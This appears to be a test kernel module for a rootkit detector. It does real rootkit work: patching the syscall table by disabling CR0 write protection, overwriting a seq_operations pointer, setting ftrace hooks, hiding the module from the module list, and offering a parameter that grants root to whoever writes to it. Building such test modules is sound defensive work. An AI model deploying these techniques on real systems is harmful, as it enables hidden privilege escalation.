// SPDX-License-Identifier: GPL-2.0-only
/*
 * What a rootkit does to a kernel, done to the guest's: a system call and a sequence lead here, functions have a hook set
 * through ftrace, who asks is given all rights, and the module is not listed. Nothing is put back: the guest ends.
 */
#include <linux/cred.h>
#include <linux/ftrace.h>
#include <linux/list.h>
#include <linux/module.h>
#include <linux/seq_file.h>

static unsigned long table;
module_param(table, ulong, 0);
MODULE_PARM_DESC(table, "address of sys_call_table");
static unsigned int number; /* read() is no call to take: 0 is none */
module_param(number, uint, 0);
MODULE_PARM_DESC(number, "of the system call that is to lead here");
static unsigned long sequence;
module_param(sequence, ulong, 0);
MODULE_PARM_DESC(sequence, "address of the struct seq_operations of which show is to lead here");
static char *function = "ksys_sync";
module_param(function, charp, 0);
MODULE_PARM_DESC(function, "function that is to have a hook");
static char *listing = "proc_pid_readdir";
module_param(listing, charp, 0);
MODULE_PARM_DESC(listing, "function that lists, which is to have a hook as well");
/* To be read afterwards. */
static unsigned long call_is_at, show_is_at;
module_param(call_is_at, ulong, 0400);
MODULE_PARM_DESC(call_is_at, "where the system call leads now");
module_param(show_is_at, ulong, 0400);
MODULE_PARM_DESC(show_is_at, "where the sequence leads now");

/* Whoever writes here has all rights from then on. */
static int give_rights(const char *value, const struct kernel_param *parameter)
{
	struct cred *all = prepare_kernel_cred(&init_task);

	return all ? commit_creds(all) : -ENOMEM;
}
static const struct kernel_param_ops rights = { .set = give_rights };
module_param_cb(rights, &rights, NULL, 0200);
MODULE_PARM_DESC(rights, "gives who writes to it all rights");

long tracee_test_call(const struct pt_regs *regs);
long tracee_test_call(const struct pt_regs *regs)
{
	return -ENOSYS;
}

int tracee_test_show(struct seq_file *seq, void *value);
int tracee_test_show(struct seq_file *seq, void *value)
{
	return 0;
}

static void notrace tracee_test_hook(unsigned long ip, unsigned long parent, struct ftrace_ops *ops,
				     struct ftrace_regs *regs)
{
}

static struct ftrace_ops ops = { .func = tracee_test_hook };

/* These pages are read-only, unless the processor is told not to care. */
static void write_word(unsigned long *place, unsigned long value)
{
	unsigned long cr0;

	preempt_disable();
	asm volatile("mov %%cr0, %0" : "=r"(cr0));
	asm volatile("mov %0, %%cr0" : : "r"(cr0 & ~0x10000UL) : "memory");
	WRITE_ONCE(*place, value);
	asm volatile("mov %0, %%cr0" : : "r"(cr0) : "memory");
	preempt_enable();
}

static int __init tracee_test_init(void)
{
	int error;

	call_is_at = (unsigned long)tracee_test_call;
	show_is_at = (unsigned long)tracee_test_show;
	if (table && number)
		write_word((unsigned long *)table + number, (unsigned long)tracee_test_call);
	if (sequence)
		write_word((unsigned long *)&((struct seq_operations *)sequence)->show, (unsigned long)tracee_test_show);
	error = ftrace_set_filter(&ops, (unsigned char *)function, strlen(function), 0);
	if (!error)
		error = ftrace_set_filter(&ops, (unsigned char *)listing, strlen(listing), 0);
	if (!error)
		error = register_ftrace_function(&ops);
	if (error)
		return error;
	list_del_init(&THIS_MODULE->list);
	return 0;
}
module_init(tracee_test_init);

MODULE_LICENSE("GPL");
MODULE_VERSION("1.5");
MODULE_DESCRIPTION("does what a rootkit does, for tests");
